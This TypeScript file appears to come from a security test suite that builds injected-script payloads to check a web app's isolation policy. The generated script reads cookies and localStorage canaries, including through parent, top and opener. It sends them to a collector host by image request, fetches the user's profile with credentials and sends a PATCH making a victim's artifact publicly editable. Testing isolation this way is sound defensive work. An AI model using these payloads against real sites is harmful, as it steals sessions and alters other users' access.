// What a payload does once a script of its own runs, and the target it is written against.
import type { Target } from "./payload.ts";

/** Planted in the app's origin; whoever hears the second part has read the first. */
export const canary = {
  cookie: { name: "plinth_theme_seed", value: "kept-cookie-5f3a9c" },
  storage: { name: "plinth-kept", value: "kept-storage-81d27e" },
} as const;

export interface Aim extends Pick<Target, "name" | "collector" | "app" | "victim"> {
  readonly socketOf: () => string;
  readonly datagramsOf: () => string;
}

export function targetOf(aim: Aim): Target {
  const { collector, name, app, victim } = aim;
  return {
    name,
    collector,
    app,
    victim,
    // Few want one, and there are few.
    get socket() {
      return aim.socketOf();
    },
    get datagrams() {
      return aim.datagramsOf();
    },
    hit: (way = "hit") => `${collector}/${name}/${way}`,
    tell: (way, expression) =>
      `(function(at){${tellFunction(name)}tell('${way}',${expression})})('${collector}/${name}/');`,
    strike: strikeOf(aim),
  };
}

/** Tells the server elsewhere, and the page around, from which the test hears what the policy keeps from the server. */
const tellFunction = (name: string): string =>
  `var tell=function(way,what){what=String(what);new Image().src=at+way+'?'+encodeURIComponent(what.slice(0,2000));` +
  `top.postMessage({struck:'${name}',way:way,what:what},'*')};`;

// Everything a script of the app's own origin could do, each by itself, so that one refusal hides no other.
function strikeOf({ name, collector, app, victim }: Aim): string {
  const tries = [
    `cookie:function(){return document.cookie}`,
    `storage:function(){return localStorage.getItem('${canary.storage.name}')}`,
    `parent:function(){return parent.document.cookie}`,
    `top:function(){return top.localStorage.getItem('${canary.storage.name}')}`,
    `opener:function(){return opener.document.cookie}`,
  ];
  return [
    `(function(at){`,
    tellFunction(name),
    `tell('ran',self.origin);`,
    `var tries={${tries.join(",")}};`,
    `for(var way in tries)try{tell(way,tries[way]())}catch(e){console.info(e.message)}`,
    `fetch('${app}/api/profile/me',{credentials:'include'}).then(function(r){return r.text()})`,
    `.then(function(t){tell('profile',t)},function(e){console.info(e.message)});`,
    `fetch('${app}/api/artifacts/${victim}/access',{method:'PATCH',credentials:'include',`,
    `headers:{'content-type':'application/json'},body:JSON.stringify({publicEdit:true})})`,
    `.then(function(r){tell('access',r.status)},function(e){console.info(e.message)});`,
    `})('${collector}/${name}/')`,
  ].join("");
}
